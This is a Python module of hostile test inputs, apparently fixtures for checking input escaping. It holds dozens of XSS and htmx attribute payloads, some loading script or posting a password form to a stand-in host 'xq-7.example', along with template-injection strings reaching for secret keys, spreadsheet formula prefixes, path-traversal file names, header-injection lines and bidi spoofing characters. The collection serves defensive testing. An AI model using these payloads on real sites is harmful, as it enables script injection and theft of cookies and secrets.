"""What attackers type: markup, formulas, file names, hidden directions, texts that are slow to read."""

MARK = "xq-7"  # in every payload, to tell where it ended up; its hyphen keeps it out of random tokens

XSS = [
    "<script>alert('xq-7')</script>",
    "<ScRiPt src=//xq-7.example></sCrIpT>",
    "</script><script>xq-7()</script>",
    "</textarea><script>xq-7()</script>",
    "</title><script>xq-7()</script>",
    "</style><script>xq-7()</script>",
    "</option></select><img src=xq-7>",
    "</a><a href=javascript:xq-7()>click</a>",
    "</p></article></body><xq-7>",
    "<xq-7 onclick=alert(1)>",
    "<img src=x onerror=xq-7()>",
    "<img/src=`xq-7`onerror=alert(1)>",
    "<img src=\"x\" onerror='xq-7()'//",
    "<image href=xq-7 onerror=alert(1)>",
    "<svg onload=xq-7()>",
    "<svg/onload=xq-7()//",
    "<svg><script>xq-7()</script></svg>",
    "<svg><a xlink:href='javascript:xq-7()'><text>x</text></a></svg>",
    "<svg><animate onbegin=xq-7() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,xq-7'/></svg>",
    "<svg><foreignObject><iframe srcdoc=xq-7></iframe></foreignObject></svg>",
    "<math><mtext></p><img src=xq-7 onerror=alert(1)></math>",
    "<math href=javascript:xq-7()>x</math>",
    "<template><xq-7 onclick=1></template>",
    "<template shadowrootmode=open><slot name=xq-7></slot></template>",
    "<noscript><p title='</noscript><img src=xq-7 onerror=alert(1)>'>",
    "<iframe src=javascript:xq-7()></iframe>",
    "<iframe srcdoc='<script>xq-7()</script>'></iframe>",
    "<object data=javascript:xq-7()></object>",
    "<embed src=//xq-7.example/x.swf>",
    "<form action=//xq-7.example><input name=password>",
    "<input autofocus onfocus=xq-7()>",
    "<button formaction=javascript:xq-7()>x</button>",
    "<select onfocus=xq-7() autofocus>",
    "<textarea onfocus=xq-7() autofocus>",
    "<details open ontoggle=xq-7()>",
    "<video><source onerror=xq-7()></video>",
    "<audio src=x onerror=xq-7()>",
    "<marquee onstart=xq-7()>",
    "<base href=//xq-7.example/>",
    "<meta http-equiv=refresh content='0;url=//xq-7.example'>",
    "<link rel=stylesheet href=//xq-7.example/x.css>",
    "<style>@import '//xq-7.example';</style>",
    "<style><img src='</style><img src=xq-7 onerror=alert(1)>'>",
    "<body onload=xq-7()>",
    "<dialog open id=toast>xq-7</dialog>",
    "<!--><img src=xq-7 onerror=alert(1)>-->",
    "<![CDATA[<img src=xq-7 onerror=alert(1)>]]>",
    "<?xml version='1.0'?><xq-7/>",
    "<%00script>xq-7()</script>",
    "<scr<script>ipt>xq-7()</scr</script>ipt>",
    '" onmouseover="xq-7()',
    "' onmouseover='xq-7()",
    '"><xq-7>',
    "'><xq-7>",
    '" autofocus onfocus="xq-7()" x="',
    "` onmouseover=`xq-7()",
    'x" style="background:url(//xq-7.example)',
    "<div hx-get=//xq-7.example hx-trigger=load>",
    "<div hx-post=/articles/1/undo/ hx-trigger=load title=xq-7>",
    "<div hx-on:click=xq-7()>",
    "<div hx-on--load=xq-7()>",
    "<div hx-vals='js:{xq-7: document.cookie}'>",
    '" hx-get="/xq-7" hx-trigger="load',
    "' hx-on:click='xq-7()",
    '"}\' hx-headers=\'js:{"x": xq-7()}',
    "<div data-hx-get=//xq-7.example>",
    "<div id=card hx-swap-oob=true>xq-7</div>",
    "&lt;script&gt;xq-7()&lt;/script&gt;",
    "&#60;script&#62;xq-7()&#60;/script&#62;",
    "&#x3c;img src=xq-7 onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003exq-7()\\u003c/script\\u003e",
    "\uff1cscript\uff1exq-7()\uff1c/script\uff1e",
    "{{ xq-7 }}<script>{% xq-7 %}</script>",
    "javascript:xq-7()//\u2028<script>",
]

TEMPLATES = [
    "{{7*191}}", "{% debug %}", "{{ request.user.password }}", "{user.password}", "{0.__class__}",
    "%(x)s", "%s %d", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{% load xq-7 %}", "{# gone #}",
    "{{ settings.SECRET_KEY }}", "{%csrf_token%}", "{}", "{0}", "%%",
]  # fmt: skip

STARTS = ["=", "+", "-", "@", "\t=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "'", "'="]
BEFORE = ["", " ", "\u00a0", "\ufeff", "\u200b", "\u2003"]
FORMULAS = [f"{before}{start}HYPERLINK(1;2)" for before in BEFORE for start in STARTS]

FILE_NAMES = [
    "../../x.txt", "/etc/passwd", "C:\\x.txt", "CON", "NUL.txt", "x" * 300 + ".txt", "a\u202etxt.exe",
    "\U0001f600.txt", "a\x00b.txt", ".htaccess", "%2e%2e%2fx", "a;b|c&d.txt",
    "<img src=xq-7 onerror=alert(1)>.txt",
    "a\"; filename*=UTF-8''evil.exe", "\u212a\u0301.txt", ".", "..", " ",
]  # fmt: skip

HEADLINES = [
    "a\r\nSet-Cookie: xq-7=1", 'a"; filename*=UTF-8\'\'evil.exe', "../../x", "abc\u202etxt.exe", "\U0001f600",
    "H" * 290, "\u200b", "CON", "\u4e00" * 200, "%0d%0aSet-Cookie:x", ".", "a\\b/c:d*e?f",
]  # fmt: skip

BIDI = [
    "\u202eexe.txt",
    "\u202dx",
    "\u2066x",
    "\u2067x",
    "\u2068x",
    "\u202bx",
    "\u200fx",
    "\u061cx",
    "שלום 123",
    "مرحبا (1)",
]

CONTROLS = {
    "NUL": "\x00", "bell": "\x07", "vertical tab": "\x0b", "form feed": "\x0c", "escape": "\x1b",
    "delete": "\x7f",
    "a C1 control": "\x9b", "next line": "\x85", "U+FFFE": "\ufffe", "U+FFFF": "\uffff", "U+FDD0": "\ufdd0",
    "U+1FFFE": "\U0001fffe",
}  # fmt: skip
